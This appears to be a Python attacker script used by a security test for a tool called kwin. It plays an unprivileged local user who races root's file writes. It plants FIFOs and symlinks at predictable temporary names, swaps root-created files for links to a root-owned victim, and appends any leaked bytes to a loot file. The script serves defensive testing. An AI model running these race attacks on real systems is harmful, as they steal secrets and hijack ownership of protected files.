# A hostile local user on a managed host (run as an unprivileged account, never root) who
# races kwin's file writes. Used by tests/security_local_user.rs; it runs inside a lab host.
#
# usage: attacker.py SHARED OWN VICTIM OLD_TAG OLD_BIG LOOT STOP SECONDS
#
# SHARED  a world-writable sticky directory (like /tmp) where root writes a 0600 secret file
# OWN     a directory this user owns, where root writes a file for this user (chown + chmod)
# VICTIM  a root-owned file this user wants to own or read
# OLD_TAG the tag of the secret file's temporary name as kwin once wrote it
#         (`.kwin-<shell pid>-<OLD_TAG>`): the same on every write of the same content, so one
#         earlier write shows it (it is in `mv`'s argv and in the directory listing)
# OLD_BIG the fixed name large files were uploaded to (`.<name>.kwin-put`)
# LOOT    where every byte this user manages to read is appended
# STOP    the attack ends when this file exists, or after SECONDS
#
# What it does, in a loop:
# - finds root's shells that are about to write (a root `sha256sum` checking the old content,
#   its parent shells) and plants FIFOs, and links to FIFOs of its own, at the temporary names
#   those shells would use, then reads whatever arrives in them;
# - tries to read every `.kwin-*` file it sees appear in SHARED;
# - in OWN, renames any `.kwin-*` file root creates out of the way and puts a link to VICTIM in
#   its place, so a `chown`/`chmod`/`mv` by name would hit VICTIM;
# - tries to read every file root creates there, and VICTIM.
import os
import sys
import time

shared, own, victim, old_tag, old_big, loot_path, stop, seconds = sys.argv[1:9]
me = os.getuid()
assert me != 0, "the attacker must not run as root"
loot = open(loot_path, "ab", buffering=0)
fifos = {}
planted = set()
n = 0


def note(msg):
    sys.stderr.write("attacker: %s\n" % msg)


def open_fifo(path):
    try:
        fifos[path] = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        pass


def plant_fifo(path):
    if path in planted:
        return
    planted.add(path)
    try:
        os.mkfifo(path, 0o666)
    except OSError:
        return
    open_fifo(path)


def plant_link_to_fifo(path):
    global n
    if path in planted:
        return
    planted.add(path)
    n += 1
    target = os.path.join(own, ".fifo-%d" % n)
    try:
        os.mkfifo(target, 0o666)
        os.symlink(target, path)
    except OSError:
        return
    open_fifo(target)


def drain():
    for fd in list(fifos.values()):
        try:
            while True:
                b = os.read(fd, 65536)
                if not b:
                    break
                loot.write(b)
        except OSError:
            pass


def try_read(path):
    """Read a regular file, if this user may (never block on a FIFO)."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
    except OSError:
        return
    try:
        if os.fstat(fd).st_mode & 0o170000 == 0o100000:
            while True:
                b = os.read(fd, 65536)
                if not b:
                    break
                loot.write(b)
    except OSError:
        pass
    finally:
        os.close(fd)


def status(pid):
    try:
        with open("/proc/%s/status" % pid) as f:
            return f.read()
    except OSError:
        return ""


def field(st, name):
    for line in st.splitlines():
        if line.startswith(name + ":"):
            return line.split()[1]
    return None


def root_writers():
    """PIDs of root's sha256sum processes and their parent shells."""
    out = []
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open("/proc/%s/comm" % d) as f:
                comm = f.read().strip()
        except OSError:
            continue
        if comm != "sha256sum":
            continue
        st = status(d)
        if field(st, "Uid") != "0":
            continue
        pid = d
        for _ in range(6):
            out.append(pid)
            pid = field(status(pid), "PPid")
            if not pid or pid in ("0", "1"):
                break
    return out


def swap_in_own_dir(deadline):
    """A tight loop of its own: swap root's temporary files in OWN for links to VICTIM."""
    stolen = 0
    while time.time() < deadline and not os.path.exists(stop):
        try:
            names = os.listdir(own)
        except OSError:
            continue
        for name in names:
            if not name.startswith(".kwin-"):
                continue
            p = os.path.join(own, name)
            try:
                if os.lstat(p).st_uid == me:
                    continue
            except OSError:
                continue
            stolen += 1
            away = os.path.join(own, ".stolen-%d" % stolen)
            try:
                os.rename(p, away)
                os.symlink(victim, p)
                note("swapped %s for a link to %s" % (name, victim))
            except OSError as e:
                note("swap of %s failed: %s" % (name, e))
            try_read(away)


plant_fifo(os.path.join(shared, old_big))
deadline = time.time() + float(seconds)
child = os.fork()
if child == 0:
    swap_in_own_dir(deadline)
    os._exit(0)
note("ready")
while time.time() < deadline and not os.path.exists(stop):
    for i, pid in enumerate(root_writers()):
        name = os.path.join(shared, ".kwin-%s-%s" % (pid, old_tag))
        if name in planted:
            continue
        if i % 2 == 0:
            plant_fifo(name)
        else:
            plant_link_to_fifo(name)
        note("planted %s" % name)
    try:
        names = os.listdir(shared)
    except OSError:
        names = []
    for name in names:
        if name.startswith(".kwin-"):
            p = os.path.join(shared, name)
            try_read(p)
    drain()
    try_read(victim)
drain()
os.waitpid(child, 0)
note("done: planted %d names" % len(planted))
